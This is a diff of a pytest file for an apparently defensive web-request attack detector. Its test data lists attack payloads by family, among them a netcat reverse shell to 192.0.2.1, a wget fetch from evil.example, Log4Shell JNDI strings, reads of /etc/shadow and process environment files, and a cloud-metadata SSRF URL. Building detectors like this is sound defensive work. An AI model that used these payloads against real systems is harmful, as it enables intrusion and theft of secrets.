@@ -2,9 +2,14 @@ import numpy as np
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from numpy.typing import NDArray
 
-from detectors.security.model import BITS, place
-from detectors.security.payloads import EXCERPT, LONGEST, LOOKS_HOSTILE, inspect, inspect_headers
+from detectors.security.families import FAMILIES
+from detectors.security.fields import LONGEST
+from detectors.security.model import BITS, VERSION, Model, Recipe, hostility, place
+from detectors.security.naming import FAMILIES as NAMED
+from detectors.security.naming import NAME_BITS
+from detectors.security.payloads import EXCERPT, LOOKS_HOSTILE, inspect, inspect_headers, look
 from detectors.security.rules import RULES
 from detectors.security.signatures import matching, span
 
@@ -37,23 +42,26 @@ ATTACKS = {
         "/?f=/etc/shadow",
         "/?f=c:\\windows\\system32\\drivers\\etc\\hosts",
         "/?f=file:///proc/self/environ",
-        "/?f=.htpasswd",
-        "/.git/config",
     ],
+    "probe": ["/?f=.htpasswd", "/.git/config", "/shell.php", "/backup/site.sql", "/docker-compose.yml"],
     "command": [
         "/?h=127.0.0.1;cat+/etc/hostname",
         "/?h=$(whoami)",
         "/?h=`id`",
         "/?h=a|nc+-e+/bin/sh+192.0.2.1+4444",
-        "/?x=${jndi:ldap://evil.example/a}",
-        "/?x=${${lower:j}ndi:rmi://evil.example}",
         "/?x=()+{+:;};+/bin/bash+-c+id",
         "/?x=;wget+http://evil.example/x.sh",
-        "/?x=java.lang.ProcessBuilder",
-        "/?u=http://169.254.169.254/latest/meta-data/",
         "/?x=for+/f+%25i+in+(a.txt)+do+del+%25i",
-        "/?x=a%0d%0aSet-Cookie:+a=b",
     ],
+    "log4shell": ["/?x=${jndi:ldap://evil.example/a}", "/?x=${${lower:j}ndi:rmi://evil.example}"],
+    "code": ["/?x=java.lang.ProcessBuilder", "/?x=system($_GET[a])", "/?x=require('child_process').exec('a')"],
+    "ssti": ["/?x={{7*7}}", "/?x=${7*7}", "/?x={{config.items()}}"],
+    "ssrf": ["/?u=http://169.254.169.254/latest/meta-data/", "/?u=gopher://127.0.0.1:6379/_info"],
+    "redirect": ["/?next=https:///evil.example/a", "/?next=/\\evil.example"],
+    "header": ["/?x=a%0d%0aSet-Cookie:+a=b"],
+    "xxe": ["/?x=<!DOCTYPE+a+[<!ENTITY+b+SYSTEM+'file:///etc/passwd'>]>"],
+    "nosqli": ["/?x={%22$ne%22:null}"],
+    "deserialisation": ["/?x=rO0ABXNyABFq", "/?x=O:8:%22stdClass%22:1:{s:1:%22a%22}"],
 }  # fmt: skip
 
 HARMLESS = [
@@ -111,6 +119,8 @@ def test_the_evidence_says_where_it_stood_and_what_it_was() -> None:
         ("body", b'{"<script>": 1}', "body <script>"),
         ("body", b'{"broken": "<script>alert(1)', "body"),
         ("body", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>", "body"),
+        ("body", b"<?xml version='1.0'?><r><user name='&lt;script&gt;alert(1)'/></r>", "body user"),
+        ("body", b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n<script>alert(1)\r\n--x--', "body a"),
     ],
 )
 def test_every_field_is_looked_at(field: str, raw: bytes, where: str) -> None:
@@ -120,8 +130,8 @@ def test_every_field_is_looked_at(field: str, raw: bytes, where: str) -> None:
 def test_header_fields_and_cookies_are_looked_at_but_not_the_usual_ones() -> None:
     headers = {"X-Api": "${jndi:ldap://a}", "Cookie": "a=1; b=' or '1'='1", "Accept": "${jndi:ldap://a}"}
     assert [(p.family, p.field) for p in inspect_headers(headers)] == [
-        ("command", "header x-api"),
-        ("sqli", "header cookie"),
+        ("log4shell", "header x-api"),
+        ("sqli", "cookie b"),
     ]
 
 
@@ -172,7 +182,7 @@ def test_what_stands_behind_the_longest_part_is_not_looked_at() -> None:
 
 def test_names_of_rules_are_unique_and_say_their_family() -> None:
     assert len({(rule.family, rule.name) for rule in RULES}) == len(RULES)
-    assert {rule.family for rule in RULES} == set(ATTACKS)
+    assert {rule.family for rule in RULES} == set(ATTACKS) == set(FAMILIES) - {"payload"}
 
 
 def test_all_rules_together_find_what_each_finds_alone() -> None:
@@ -184,21 +194,49 @@ def test_all_rules_together_find_what_each_finds_alone() -> None:
                 assert 0 <= start < end <= len(low.encode())
 
 
-def test_what_no_rule_matches_but_looks_like_an_attack_is_a_payload() -> None:
+def model_of(weights: NDArray[np.int8]) -> Model:
+    """Return a model with given weights, and none of families."""
+    return Model(weights, np.zeros((1 << NAME_BITS, len(NAMED)), np.int8), Recipe(VERSION, ""))
+
+
+def test_what_no_rule_matches_but_looks_like_an_attack_is_given_the_family_that_it_looks_like() -> None:
     weights = np.zeros(1 << BITS, np.int8)
     weights[int(place(ord("#"), 1))] = 127
-    (piece,) = inspect("path", b"/?a=%23%23%23&b=c", weights)
-    assert (piece.family, piece.rule, piece.field, piece.excerpt) == ("payload", LOOKS_HOSTILE, "path a", "###")
+    model = model_of(weights)
+    model.families[:, NAMED.index("ssti")] = 1
+    (piece,) = inspect("path", b"/?a=%23%23%23&b=c", model)
+    assert (piece.family, piece.rule, piece.field, piece.excerpt) == ("ssti", LOOKS_HOSTILE, "path a", "###")
 
 
 def test_a_signature_counts_for_nothing_where_the_model_is_sure_that_all_is_well() -> None:
-    weights = np.full(1 << BITS, -127, np.int8)
-    assert inspect("path", b"/?q=<script>alert(1)</script>", weights) == []
-    assert inspect("path", b"/?q=<script>alert(1)</script>", np.zeros(1 << BITS, np.int8)) != []
+    assert inspect("path", b"/?q=<script>alert(1)</script>", model_of(np.full(1 << BITS, -127, np.int8))) == []
+    assert inspect("path", b"/?q=<script>alert(1)</script>", model_of(np.zeros(1 << BITS, np.int8))) != []
+
+
+def test_a_firm_rule_is_heard_where_the_model_thinks_otherwise_but_is_not_sure() -> None:
+    weak, firm = b"/?q=1'+or+'1'='1", b"/?q=1+union+select+2"
+    weights = np.full(1 << BITS, -5, np.int8)
+    assert -1.5 < hostility("1 union select 2", weights) < -0.5
+    assert inspect("path", weak, model_of(weights)) == []
+    assert [piece.rule for piece in inspect("path", firm, model_of(weights))] == ["union select"]
+
+
+def test_the_more_speaks_for_an_attack_the_higher_its_score_up_to_two() -> None:
+    neutral = model_of(np.zeros(1 << BITS, np.int8))
+    (one,), (several,) = (
+        inspect("path", raw, neutral) for raw in (b"/?q=<!--", b"/?q=';select+1+from+a;drop+table+b--")
+    )
+    assert 1.0 < one.score < several.score < 2.0
 
 
 def test_the_model_is_not_asked_about_fields_that_it_has_not_learned() -> None:
-    hostile = np.full(1 << BITS, 127, np.int8)
+    hostile = model_of(np.full(1 << BITS, 127, np.int8))
     assert inspect("agent", b"a b", hostile) != []
     assert inspect("user", b"a b", hostile) == []
     assert inspect_headers({"Sec-Brand": '"Not A;Brand";v="99"', "X-Odd": "'\"><'\"--#"}) == []
+
+
+@pytest.mark.parametrize("raw", [b'{"a": "b', b"<?xml version='1.0'?><a", b"--x\r\nno head--x", b"[" * 200])
+def test_a_body_that_is_not_what_it_seems_is_looked_at_as_text_and_told(raw: bytes) -> None:
+    assert look("body", raw).understood is False
+    assert look("body", raw + b"<script>alert(1)</script>").evidence != []
